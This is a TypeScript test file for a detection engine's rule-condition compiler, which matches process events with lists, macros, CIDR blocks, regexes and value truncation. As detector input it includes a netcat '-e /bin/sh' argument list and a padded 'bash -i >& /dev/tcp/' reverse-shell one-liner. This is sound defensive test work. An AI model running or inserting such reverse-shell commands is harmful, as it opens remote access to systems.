import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { compileCondition, ConditionError, MATCH_HEAD, MATCH_TAIL, MAX_MATCH, type Condition } from '../../src/detect/condition';

const ctx = { lists: { shells: ['sh', 'bash'] }, macros: { started: { field: 'event.type', equals: 'start' } as Condition } };
const m = (c: Condition) => compileCondition(c, ctx);

describe('rule conditions', () => {
  it('matches any element of an array field, through arrays of objects', () => {
    assert.ok(m({ field: 'process.args', equals: '-e' })({ process: { args: ['nc', '-e', '/bin/sh'] } }));
    assert.ok(m({ field: 'mounts.source', in: ['/'] })({ mounts: [{ source: '/srv' }, { source: '/' }] }));
    assert.ok(!m({ field: 'mounts.source', in: ['/'] })({ mounts: [{ source: '/srv' }] }));
  });

  it('supports lists, macros, all/any/not, nocase', () => {
    const c: Condition = { all: [{ macro: 'started' }, { field: 'process.name', in: '@shells' }, { not: { field: 'user', equals: 'ROOT', nocase: true } }] };
    assert.ok(m(c)({ event: { type: ['start'] }, process: { name: 'sh' }, user: 'app' }));
    assert.ok(!m(c)({ event: { type: ['start'] }, process: { name: 'sh' }, user: 'root' }));
    assert.ok(!m(c)({ event: { type: ['end'] }, process: { name: 'sh' } }));
  });

  it('compares numbers, checks existence, CIDR blocks and string affixes', () => {
    assert.ok(m({ field: 'cpu', gt: 80 })({ cpu: 95.5 }));
    assert.ok(!m({ field: 'cpu', gt: 80 })({ cpu: '12' }));
    assert.ok(m({ field: 'x', exists: false })({}));
    assert.ok(m({ field: 'ip', cidr: ['10.0.0.0/8', '127.0.0.0/8'] })({ ip: '127.0.0.1' }));
    assert.ok(!m({ field: 'ip', cidr: '10.0.0.0/8' })({ ip: 'not-an-ip' }));
    assert.ok(m({ field: 'p', startswith: ['/tmp/', '/dev/shm/'] })({ p: '/dev/shm/x' }));
    assert.ok(m({ field: 'p', endswith: '.sh' })({ p: 'run.sh' }));
    assert.ok(m({ field: 'cmd', contains: '@shells', nocase: true })({ cmd: 'exec BASH -i' }), '"@list" in contains');
    assert.ok(m({ field: 'mail', endswith: '@example.com' })({ mail: 'a@example.com' }), 'a string naming no list is literal');
  });

  it('runs regexes in linear time (RE2) and caps very long values', () => {
    const evil = m({ field: 'msg', regex: '(a+)+$' });
    const t0 = Date.now();
    assert.ok(!evil({ msg: 'a'.repeat(5000) + 'b' }));
    assert.ok(Date.now() - t0 < 200, 'no catastrophic backtracking');
    // A long value is matched on its head and its tail: padding on one side cannot hide a payload,
    // padding on both sides does (and the detector reports it).
    const needle = m({ field: 'msg', contains: 'needle' });
    assert.ok(needle({ msg: 'x'.repeat(MAX_MATCH) + 'needle' }), 'the tail of a long value is matched');
    assert.ok(needle({ msg: 'needle' + 'x'.repeat(MAX_MATCH) }), 'the head of a long value is matched');
    assert.ok(!needle({ msg: 'x'.repeat(MAX_MATCH) + 'needle' + 'x'.repeat(MAX_MATCH) }), 'the middle is not');
    const re = m({ field: 'msg', regex: 'bash -i >& /dev/tcp/' });
    assert.ok(re({ msg: `bash -c ${' '.repeat(17000)}bash -i >& /dev/tcp/10.0.0.5/4444 0>&1` }));
  });

  it('a cut value neither equals nor ends with what was cut around it', () => {
    const long = 'a'.repeat(MATCH_HEAD) + 'b'.repeat(MAX_MATCH) + 'c'.repeat(MATCH_TAIL);
    assert.ok(!m({ field: 'v', equals: 'a'.repeat(MATCH_HEAD) + 'c'.repeat(MATCH_TAIL) })({ v: long }));
    assert.ok(!m({ field: 'v', endswith: 'a' })({ v: [long.slice(0, MATCH_HEAD + 10), 'z'.repeat(MAX_MATCH)] }), 'an array element cut at the head window');
    assert.ok(m({ field: 'v', startswith: 'aaa' })({ v: long }) && m({ field: 'v', endswith: 'ccc' })({ v: long }));
    assert.ok(!m({ field: 'v', regex: '^a+c+$' })({ v: long }), 'head and tail do not join into one value');
  });

  it('objects are not values, and only own properties are read', () => {
    const labels = JSON.parse('{"tier":"web","toString":"x","__proto__":{"tier":"db"}}');
    assert.ok(!m({ field: 'labels', contains: 'object' })({ labels }), 'no "[object Object]"');
    assert.ok(m({ field: 'labels.toString', equals: 'x' })({ labels }));
    assert.ok(!m({ field: 'labels.hasOwnProperty', exists: true })({ labels }), 'nothing read from Object.prototype');
    assert.ok(m({ field: 'labels.__proto__.tier', equals: 'db' })({ labels }), 'an own "__proto__" key is data');
    assert.ok(m({ field: 'labels', exists: true })({ labels }));
  });

  it('rejects what cannot be compiled, with the path inside the condition', () => {
    const bad: Array<[Condition, string, string]> = [
      [{ field: 'a', regex: '(a)\\1' }, 'regex', 'invalid RE2 pattern'],
      [{ field: 'a', in: '@nope' }, 'in', 'unknown list'],
      [{ all: [{ field: 'a', bogus: 1 } as unknown as Condition] }, 'bogus', 'unknown operator'],
      [{ field: 'a', contains: 'x', equals: 'y' }, '', 'exactly one operator'],
      [{ macro: 'missing' }, 'macro', 'unknown macro'],
      [{ field: 'ip', cidr: '300.1.1.1/8' }, 'cidr', 'not a CIDR'],
    ];
    for (const [c, last, msg] of bad) {
      assert.throws(() => m(c), (err: unknown) => err instanceof ConditionError && err.message.includes(msg) && (last === '' || err.path[err.path.length - 1] === last), JSON.stringify(c));
    }
  });
});
